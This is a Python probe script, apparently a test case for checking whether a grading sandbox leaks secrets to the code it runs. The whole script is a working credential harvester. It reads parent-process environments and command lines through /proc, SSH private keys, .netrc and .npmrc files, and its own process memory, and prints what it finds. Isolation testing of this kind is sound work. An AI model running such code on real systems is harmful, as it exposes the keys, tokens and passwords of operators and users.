"""C2: looks for the grader's secrets and prints whatever it sees: its environment and the one
it was started with, the grader's command line and environment through /proc, files in HOME
(SSH keys, .netrc) and its own memory.

via: cli
It does not know the secrets, only what they look like (a GitHub token, a key, a password),
so the pattern it hunts for never matches its own code.
"""
import ctypes
import os
import re
import time
from pathlib import Path

_SECRET = re.compile(rb"(?:ghp_|SECRET=|KEY=|KEY |password )[0-9a-f]{16}")
_seen = []


def _look(label, read):
    try:
        text = read()
    except Exception:
        return
    if _SECRET.search(text.encode(errors="replace")):
        _seen.append(label)
    print(f"--- {label}\n{text[:4000]}")


def _ancestors():
    pid, found = os.getpid(), []
    for _ in range(3):
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            break
        pid = int(status.split("PPid:")[1].split()[0])
        if pid <= 1:
            break
        found.append(pid)
    return found


def _scan_memory():
    """Every anonymous, heap and stack mapping, in chunks (freed objects keep their bytes)."""
    deadline, hits = time.monotonic() + 20, 0
    for line in Path("/proc/self/maps").read_text().splitlines():
        parts = line.split()
        start, end = (int(x, 16) for x in parts[0].split("-"))
        name = parts[5] if len(parts) > 5 else ""
        if "r" not in parts[1] or name not in ("", "[heap]", "[stack]"):
            continue
        for chunk in range(start, end, 16 << 20):
            if time.monotonic() > deadline:
                return f"{hits} secrets in readable memory (scan cut short)"
            size = min((16 << 20) + 64, end - chunk)  # overlap: no secret straddles unseen
            hits += len(_SECRET.findall(ctypes.string_at(chunk, size)))
    return f"{hits} secrets in readable memory"


def _file(path):
    return lambda: Path(path).read_bytes().decode(errors="replace")


_look("os.environ", lambda: repr(dict(os.environ)))
_look("own environ", _file("/proc/self/environ"))
for _pid in _ancestors():
    _look(f"/proc/{_pid}/cmdline", _file(f"/proc/{_pid}/cmdline"))
    _look(f"/proc/{_pid}/environ", _file(f"/proc/{_pid}/environ"))
for _home in {Path.home(), Path("__HOME__"), Path("/root")}:
    for _name in (".ssh/id_rsa", ".netrc", ".gitconfig", ".npmrc"):
        _look(str(_home / _name), _file(_home / _name))
_look("memory", _scan_memory)
print("SECRETS SEEN", _seen, flush=True)
